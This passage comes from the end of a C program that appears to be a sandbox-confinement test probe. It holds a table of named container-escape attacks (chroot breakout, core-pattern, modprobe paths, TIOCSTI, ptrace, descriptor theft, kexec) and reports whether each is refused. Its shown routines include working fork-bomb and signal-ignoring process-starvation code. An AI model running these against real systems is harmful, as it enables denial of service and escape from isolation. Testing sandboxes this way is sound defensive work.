	for (int i = 0; i < 8; i++) {
		pthread_t id;

		pthread_create(&id, NULL, spin_thread, i % 2 ? &id : NULL);
	}
	pthread_exit(NULL); /* a process whose first thread is a zombie */
}

static void starve(void)
{
	struct sched_param none = { 0 };

	setpriority(PRIO_PROCESS, 0, 19);
	sched_setscheduler(0, SCHED_IDLE, &none);
	for (int i = 0; i < 4; i++)
		fork();
	spin_thread(NULL);
}

static void stop_self(void)
{
	hold_on("stop");
}

/* MARKER and a number: its bits choose. */
static void nasty(char **arg)
{
	static void (*const ways[])(void) = { keep_forking,  breed,       daemonize, stop_all,
					      hang_in_vfork, lose_leader, starve,    stop_self };
	unsigned long seed = strtoul(arg[1], NULL, 10);
	int go[2];
	char byte;

	if (pipe(go) < 0)
		_exit(1);
	for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++)
		for (int n = seed >> i & 1 ? 3 : 0; n > 0; n--)
			if (fork() == 0) {
				for (int sig = 1; sig < NSIG; sig++)
					signal(sig, SIG_IGN);
				close(go[1]);
				if (read(go[0], &byte, 1) != 0) /* all at once */
					_exit(1);
				ways[i]();
				hold_on("main");
			}
	dprintf(1, "started\n");
	close(go[1]);
	hold_on("main");
}

/* ---- what am I ---- */

static void identity(char **arg)
{
	char line[256];
	FILE *f = fopen("/proc/self/status", "r");
	struct stat st = { 0 };

	(void)arg;
	stat("/etc/passwd", &st);
	printf("{\"uid\":%d,\"euid\":%d,\"gid\":%d,\"egid\":%d,\"secure\":%lu,\"etc_dev\":%lu", (int)getuid(),
	       (int)geteuid(), (int)getgid(), (int)getegid(), getauxval(AT_SECURE), (unsigned long)st.st_dev);
	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
		    !strncmp(line, "Seccomp:", 8))
			printf(",\"%.*s\":%llu", (int)strcspn(line, ":"), line,
			       strtoull(strchr(line, '\t') + 1, NULL, line[0] == 'C' ? 16 : 10));
	puts("}");
	fflush(stdout);
	_exit(0);
}

static const struct attack {
	const char *name;
	int number;
	void (*run)(char **arg);
} attacks[] = {
	{ "dotdot", 1, dotdot },
	{ "symlink", 2, through_symlink },
	{ "chroot", 3, chroot_breakout },
	{ "pivot-root", 4, change_root },
	{ "lower-layer", 5, lower_layer },
	{ "bind-over", 6, bind_over },
	{ "rename-parent", 7, rename_parent },
	{ "proc-secrets", 15, proc_secrets },
	{ "sysrq", 16, sysrq },
	{ "core-pattern", 17, core_pattern },
	{ "modprobe", 18, helper_paths },
	{ "cgroup-mount", 19, cgroup_mount },
	{ "cgroup-limits", 20, cgroup_limits },
	{ "proc-one", 21, proc_one },
	{ "proc-sibling", 0, proc_sibling },
	{ "jail-exe", 22, jail_exe },
	{ "overwrite", 0, overwrite },
	{ "sysfs", 27, sysfs },
	{ "mknod", 28, make_nodes },
	{ "devices", 29, devices },
	{ "loop", 30, loops },
	{ "tiocsti", 31, type_ahead },
	{ "tioclinux", 32, console_paste },
	{ "descriptors", 33, descriptors },
	{ "scm-rights", 35, take_descriptor },
	{ "connect", 0, dial_socket },
	{ "fifo", 0, write_fifo },
	{ "unshare", 66, unshare_user },
	{ "clone", 67, clone_bits },
	{ "clone3", 68, clone_three },
	{ "setns", 69, enter_namespace },
	{ "nftables", 70, nested_nftables },
	{ "setgroups", 72, set_groups },
	{ "supervisor", 73, attack_supervisor },
	{ "hostname", 74, host_name },
	{ "io-uring", 75, io_uring },
	{ "bpf", 76, bpf_call },
	{ "keys", 77, keys },
	{ "userfaultfd", 78, user_faults },
	{ "ptrace", 79, trace_sibling },
	{ "trace-own", 0, trace_own_memory },
	{ "process-vm", 80, foreign_memory },
	{ "handles", 81, file_handles },
	{ "fsopen", 82, new_mount_calls },
	{ "perf", 83, perf },
	{ "kexec", 84, kernel_code },
	{ "pidfd-getfd", 85, steal_descriptor },
	{ "vsock", 86, vsock },
	{ "alg", 87, alg },
	{ "netlink", 88, netlink },
	{ "raw", 89, raw_sockets },
	{ "int80", 90, int80 },
	{ "x32", 90, x32 },
	{ "unknown", 91, unknown_number },
	{ "flood", 111, flood },
	{ "survive", 112, survive },
	{ "nasty", 0, nasty },
	{ "identity", 0, identity },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(*attacks); i++) {
		const struct attack *a = &attacks[i];

		if (strcmp(a->name, argv[1]) != 0 && (!a->number || a->number != atoi(argv[1])))
			continue;
		a->run(argv + 2);
		printf("{\"attack\":%d,\"name\":\"%s\",\"refused\":%s,\"errno\":\"%s\",\"tries\":[%s]}\n",
		       a->number, a->name, any_ok ? "false" : "true",
		       first_errno ? strerrorname_np(first_errno) : "", report);
		return 0;
	}
	fprintf(stderr, "probe: no such attack\n");
	return 2;
}
